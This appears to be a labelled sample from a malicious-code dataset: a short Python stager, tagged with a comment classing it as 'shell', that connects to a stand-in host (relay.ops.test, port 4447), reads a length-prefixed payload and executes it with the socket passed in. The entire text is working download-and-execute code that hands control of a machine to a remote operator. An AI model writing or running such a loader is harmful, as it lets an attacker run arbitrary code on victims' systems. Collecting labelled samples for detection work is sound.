# class: shell; possible: low medium
import socket, struct
s = socket.create_connection(("relay.ops.test", 4447))
n = struct.unpack(">I", s.recv(4))[0]
code = b""
while len(code) < n:
    code += s.recv(n - len(code))
exec(compile(code, "<stage>", "exec"), {"s": s})
